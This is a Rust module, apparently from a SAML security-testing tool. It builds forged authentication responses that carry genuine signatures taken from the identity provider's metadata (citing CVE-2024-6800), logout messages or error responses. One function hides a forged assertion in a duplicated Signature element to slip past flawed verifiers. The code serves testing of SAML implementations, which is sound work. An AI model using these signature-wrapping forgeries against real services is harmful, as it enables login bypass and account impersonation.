//! Genuine signatures of the trusted key over something else, which a forged response carries.

use saml_model::{SigningOption, Status, names};

use super::super::forge::Forge;
use super::super::impostor::{forged, forged_assertion, id};
use super::super::tree::Tree;
use super::super::{Action, FaultError, Inputs, Parameters};
use super::choice;

pub(in super::super) const ACTIONS: &[(&str, Action)] = &[
    ("sig-from-error-response", Action::Message(from_error_response)),
    ("sig-from-logout", Action::Message(from_logout)),
    ("sig-from-metadata", Action::Message(from_metadata)),
];

/// A forged response in whose Extensions something signed stands, before everything that is believed.
fn carrying(signed: Tree, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<String, FaultError> {
    let mut response = forged(parameters, inputs)?;
    let place = response.place("Status")?;
    response.insert(place, Tree::new("samlp:Extensions").around(signed));
    Ok(response.write())
}

/// Everybody can fetch it (CVE-2024-6800): nobody need have signed in.
fn from_metadata(_: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<String, FaultError> {
    let metadata = (inputs.metadata)()?;
    carrying(
        Tree::read(metadata.trim_start_matches('\u{feff}'))?,
        parameters,
        inputs,
    )
}

/// As the identity provider would send it to end a session.
fn from_logout(_: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<String, FaultError> {
    let is_answer = choice(parameters, "message", &[("request", false), ("response", true)])?;
    let (name, content) = if is_answer {
        let status = format!(
            "<samlp:Status><samlp:StatusCode Value=\"{}\"/></samlp:Status>",
            names::STATUS_SUCCESS
        );
        ("LogoutResponse", status)
    } else {
        let name_id = format!(
            "<NameID xmlns=\"{}\">nobody@other-sp.test</NameID>",
            names::NS_ASSERTION
        );
        ("LogoutRequest", name_id)
    };
    let issuer = forged(parameters, inputs)?.at(&["Issuer"])?.clone();
    let message = Tree::new(&format!("samlp:{name}"))
        .with("xmlns:samlp", names::NS_PROTOCOL)
        .with("ID", &id(inputs, "logout"))
        .with("Version", names::VERSION)
        .with(
            "IssueInstant",
            &inputs.now.strftime("%Y-%m-%dT%H:%M:%SZ").to_string(),
        )
        .around(issuer)
        .around(content);
    let own = inputs.own()?;
    carrying(
        Forge::new(inputs.algorithm, own).sign(&message, &[], own)?,
        parameters,
        inputs,
    )
}

/// The status is a failure, so there is no assertion; one is added where the enveloped transform of a reader that takes
/// every signature with this value away does not see it.
fn from_error_response(_: &str, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<String, FaultError> {
    inputs.require_plain()?;
    let mut failure = inputs.victim(parameters)?;
    failure.assertion = None;
    failure.status = Status {
        code: names::STATUS_REQUESTER.to_owned(),
        sub_code: Some(names::STATUS_REQUEST_UNSUPPORTED.to_owned()),
        message: None,
    };
    let unsigned = saml_emit::response(&failure, SigningOption::Response, None);
    let unsigned = Tree::read(&unsigned.map_err(|_| FaultError::Unreadable)?)?;
    let own = inputs.own()?;
    let mut message = Forge::new(inputs.algorithm, own).sign(&unsigned, &[], own)?;
    let mut twin = message.at(&["Signature"])?.clone();
    let forged = forged_assertion(parameters, inputs)?;
    twin.children.push(Tree::new("Object").around(forged).into());
    let place = message.place("Signature")?;
    message.insert(place + 1, twin);
    Ok(message.write())
}
